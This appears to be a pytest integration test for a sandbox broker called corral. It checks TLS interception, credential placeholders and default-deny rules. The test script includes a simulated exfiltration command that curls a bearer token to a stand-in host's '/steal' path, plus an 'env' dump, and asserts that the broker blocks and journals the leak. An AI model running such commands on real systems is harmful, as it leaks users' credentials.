"""`corral exec` with TLS interception: real clients in the sandbox, HTTPS servers on the host.

The sandbox trusts the run's CA only through what corral gives it (the bound
system bundle and the CA variables); the servers' certificates come from a
throwaway test CA the broker trusts through `upstream_tls` (host config).
"""

from __future__ import annotations

import base64
import os
import secrets
from collections.abc import Iterator
from pathlib import Path

import pytest

from corral.broker.journal import read_rows

from ..broker.testlib import Hit, RecordingServer, Reply, ThrowawayCA, make_ca
from .conftest import ExecFn

pytestmark = [pytest.mark.requires_sandbox, pytest.mark.requires_curl]


def _echo(hit: Hit) -> Reply:
    return (
        200,
        [],
        f"{hit.method} {hit.path} auth={hit.headers.get('authorization', '')}\n".encode(),
    )


@pytest.fixture(scope="module")
def test_ca(tmp_path_factory: pytest.TempPathFactory) -> ThrowawayCA:
    return make_ca(tmp_path_factory.mktemp("ca"))


@pytest.fixture
def https_pair(test_ca: ThrowawayCA) -> Iterator[tuple[RecordingServer, RecordingServer]]:
    bound = RecordingServer({"/": _echo}, test_ca.server_context())
    other = RecordingServer({"/": _echo}, test_ca.server_context())
    try:
        yield bound, other
    finally:
        bound.close()
        other.close()


def _config(tmp_path: Path, ca: ThrowawayCA, bound: int, other: int) -> Path:
    cfg = tmp_path / "corral.toml"
    cfg.write_text(
        'resolver_overrides = { "secure.test" = "127.0.0.1", "other.test" = "127.0.0.1" }\n'
        "system_dns = false\n"
        f'upstream_tls = {{ ca_bundle = "{ca.ca_pem}" }}\n'
        f'[[rules]]\nid = "gh-read"\nhost = "secure.test"\nports = [{bound}]\n'
        'methods = ["GET"]\nallow_private = true\n'
        f'[[rules]]\nid = "other"\nhost = "other.test"\nports = [{other}]\n'
        'methods = ["GET", "POST"]\nallow_private = true\n'
        '[[credentials]]\nname = "github"\nenv = "GH_TOKEN"\nvalue = "env:CORRAL_TEST_GH"\n'
        'hosts = ["secure.test"]\n'
    )
    return cfg


def test_https_rules_and_placeholders_inside_exec(
    corral_exec: ExecFn,
    https_pair: tuple[RecordingServer, RecordingServer],
    test_ca: ThrowawayCA,
    tmp_path: Path,
) -> None:
    bound, other = https_pair
    real = f"ghp_{secrets.token_hex(16)}"
    journal = tmp_path / "j.sqlite"
    cfg = _config(tmp_path, test_ca, bound.port, other.port)
    curl = "curl -sS -m 10"
    script = "; ".join(
        [
            'echo "token=$GH_TOKEN"',
            f'{curl} -H "Authorization: Bearer $GH_TOKEN" https://secure.test:{bound.port}/api',
            f'{curl} -u "x-access-token:$GH_TOKEN" https://secure.test:{bound.port}/git',
            f"{curl} -o /dev/null -w '%{{http_code}}\\n' -X POST -d x=1 "
            f"https://secure.test:{bound.port}/api",
            f"{curl} -o /dev/null -w '%{{http_code}}\\n' -H \"Authorization: Bearer $GH_TOKEN\" "
            f"https://other.test:{other.port}/steal",
            'python3 -I -c "import urllib.request as u; '
            f"print(u.urlopen('https://secure.test:{bound.port}/py').read().decode().strip())\"",
            "env",
        ]
    )
    env = {**os.environ, "CORRAL_TEST_GH": real}
    out = corral_exec(
        "sh", "-c", script, opts=("--config", str(cfg), "--journal", str(journal)), env=env
    )
    lines = out.stdout.splitlines()
    assert lines[0].startswith("token=corral-placeholder-"), out.stdout + out.stderr
    placeholder = lines[0].removeprefix("token=")
    assert lines[1] == f"GET /api auth=Bearer {placeholder}", out.stdout + out.stderr
    assert lines[3:5] == ["403", "403"], out.stdout
    # Python's urllib trusts the run's CA through SSL_CERT_FILE / the system bundle.
    assert lines[5] == "GET /py auth=", out.stdout + out.stderr
    # The bound host got the real value (Bearer, and inside Basic as git sends it).
    basic = base64.b64encode(f"x-access-token:{real}".encode()).decode()
    assert [(h.path, h.headers.get("authorization")) for h in bound.hits] == [
        ("/api", f"Bearer {real}"),
        ("/git", f"Basic {basic}"),
        ("/py", None),
    ]
    assert other.hits == []
    # The real value is nowhere the sandbox or the journal could show it.
    for text in (out.stdout, out.stderr):
        assert real not in text and basic not in text
    raw = b"".join(p.read_bytes() for p in tmp_path.glob("j.sqlite*"))
    assert real.encode() not in raw and basic.encode() not in raw
    rows = read_rows(journal)
    denials = {(r.rule, r.target) for r in rows if r.decision == "deny"}
    assert ("default-deny", f"POST https://secure.test:{bound.port}/api") in denials
    assert ("exfiltration", f"GET https://other.test:{other.port}/steal") in denials
